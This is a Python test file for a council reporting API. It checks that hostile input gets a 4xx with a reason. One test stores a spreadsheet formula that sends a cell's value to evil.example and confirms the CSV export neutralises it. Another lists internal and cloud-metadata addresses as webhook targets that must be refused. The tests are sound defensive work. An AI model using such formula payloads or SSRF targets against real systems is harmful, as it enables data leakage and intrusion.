"""Writes the database would refuse get a 4xx naming the reason before or instead of a 500 (hostile input)."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime
from xml.etree import ElementTree

import httpx

from services.report_it.tests.test_lifecycle import new_report

FEED = "/v1/reports/feed.atom"


def assert_problem(response: httpx.Response, status: int) -> dict:
    assert response.status_code == status, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    problem = response.json()
    assert problem["status"] == status and problem["detail"]
    return problem


def test_what_would_break_a_write_is_refused_with_a_reason(api: httpx.Client, staff_headers, token_for) -> None:
    admin = {"Authorization": f"Bearer {token_for('admin', 'manager', sub='admin.refused')}"}
    service = {"Authorization": f"Bearer {token_for('service', sub='service:footprints')}"}

    nul_key = api.post("/v1/open311/api-keys", json={"name": "web\x00site"}, headers=admin)
    assert "name" in str(assert_problem(nul_key, 422)["errors"])

    no_category = api.post(
        "/v1/response-templates", json={"title": "Tidied", "text": "We tidied it", "category": ""}, headers=admin
    )
    assert assert_problem(no_category, 404)["code"] == "CategoryNotFound"

    report = new_report(api)
    api.post(f"/v1/reports/{report['id']}/updates", json={"status": "acknowledged"}, headers=staff_headers)
    long_code = {
        "event_id": f"evt-{uuid.uuid4()}",
        "kind": "allocated",
        "footprint_code": "f" * 33,
        "occurred_at": datetime.now(UTC).isoformat(),
    }
    refused = api.post(f"/v1/reports/{report['id']}/case-events", json=long_code, headers=service)
    assert "footprint_code" in str(assert_problem(refused, 422)["errors"])
    assert api.get(f"/v1/reports/{report['id']}").json()["status"] == "acknowledged"  # nothing was applied


def test_text_that_would_break_an_output_format(api: httpx.Client, staff_headers) -> None:
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    report = new_report(api, description=formula, address="@Library Street")
    with api.stream("GET", "/v1/exports/reports.csv", headers=staff_headers) as response:
        text = "".join(response.iter_text())
    (row,) = [r for r in csv.DictReader(io.StringIO(text)) if r["id"] == report["id"]]
    assert row["address"] == "'@Library Street"  # shown as text by a spreadsheet, never run
    assert row["long"] == "-2.632"  # numbers stay numbers
    assert formula not in text.replace("'" + formula, "")

    # U+FFFE and U+FFFF are not characters; the public Atom feed could not carry them.
    refused = api.post(
        "/v1/reports",
        json={"category": "litter", "location": {"lat": 53.545, "long": -2.632}, "description": "odd \ufffe text"},
    )
    assert "description" in str(assert_problem(refused, 422)["errors"])
    feed = api.get(FEED)
    assert feed.status_code == 200, feed.text
    ElementTree.fromstring(feed.content)  # well-formed, whatever was stored


def test_a_resident_cannot_claim_the_staff_channel(api: httpx.Client, staff_headers) -> None:
    body = {"category": "litter", "location": {"lat": 53.545, "long": -2.632}, "channel": "staff"}
    assert "body.channel" in str(assert_problem(api.post("/v1/reports", json=body), 422)["errors"])
    signed_in = api.post("/v1/reports", json=body, headers=staff_headers)
    assert signed_in.status_code == 201 and signed_in.json()["channel"] == "staff"


def test_webhooks_cannot_point_into_the_councils_network(make_settings, token_for) -> None:
    from report_it.main import create_app
    from tests.support.server import serve

    manager = {"Authorization": f"Bearer {token_for('manager', sub='mgr.hooks')}"}
    app = create_app(make_settings(webhook_allow_private_targets=False))
    with serve(app) as base, httpx.Client(base_url=base) as own:
        for url in [
            "http://127.0.0.1:8002/v1/cases",
            "http://localhost/",
            "http://10.0.0.5/hook",
            "http://169.254.169.254/latest/meta-data/",
            "http://[::1]/hook",
            "http://[::ffff:192.168.1.1]/hook",
        ]:
            refused = own.post("/v1/webhooks", json={"url": url}, headers=manager)
            assert "body.url" in str(assert_problem(refused, 422)["errors"]), url
        public = own.post("/v1/webhooks", json={"url": "https://93.184.215.14/hook"}, headers=manager)
        assert public.status_code == 201, public.text
        own.delete(f"/v1/webhooks/{public.json()['id']}", headers=manager)
